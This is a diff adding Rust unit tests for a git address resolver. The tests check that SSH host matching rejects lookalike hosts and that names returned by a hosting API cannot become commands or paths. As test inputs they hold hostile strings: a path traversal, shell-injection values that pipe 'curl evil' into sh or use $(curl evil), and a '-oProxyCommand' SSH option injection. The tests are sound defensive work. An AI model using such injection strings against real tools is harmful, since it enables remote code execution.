@@ -123,6 +123,16 @@ fn only_a_plain_address_is_taken_for_ssh() {
     for url in ["git@github.com:me/x.git", "ssh://git@host:2222/me/x.git", "host:x.git"] {
         assert!(is_ssh_address(url, ""), "{url}");
     }
+    // Where the host is known, so is its address for SSH. The name may be one of the person's SSH configuration.
+    assert!(is_ssh_address("git@github.com:me/x.git", "github.com"));
+    assert!(is_ssh_address("ssh://git@ssh.gitlab.com:443/me/x.git", "gitlab.com"));
+    for url in [
+        "git@evil.org:me/x.git",
+        "git@work:me/x.git",
+        "git@evilgithub.com:me/x.git",
+    ] {
+        assert!(!is_ssh_address(url, "github.com"), "{url}");
+    }
     for url in [
         "git@-oProxyCommand=x:y",
         "-oProxyCommand=x:y",
@@ -213,6 +223,25 @@ fn an_address_at_a_host_is_refused_only_where_the_host_says_clearly_that_others_
         let (taken, ran) = resolved(url, &answers("200 OK", OPEN), false, false);
         assert_eq!((taken.unwrap().url.as_str(), ran), (url, false));
     }
+}
+
+/// What a host says of itself ends up in questions, in paths of its API, and in commands that a person is told to run.
+#[test]
+fn what_a_host_says_is_no_command_and_no_path() {
+    for login in ["../../evil", "x; curl evil | sh", "-x", ""] {
+        let body = serde_json::json!({ "login": login }).to_string();
+        let (failed, _) = resolved("github:x", &answers("200 OK", &body), false, false);
+        let error = failed.unwrap_err();
+        let why = "is not understood: it gives whoever is signed in a name that none can have";
+        assert!(error.to_string().contains(why), "{login}: {error}");
+    }
+    let body = serde_json::json!({
+        "login": "me", "full_name": "me/x$(curl evil)", "private": true, "visibility": "private", "archived": false,
+    });
+    let (failed, _) = resolved("github:me/x", &answers("200 OK", &body.to_string()), false, false);
+    let error = failed.unwrap_err();
+    let told = format!("{error} {}", error.hint_text().unwrap_or_default());
+    assert!(!told.contains("curl"), "{told}");
 }
 
 #[test]
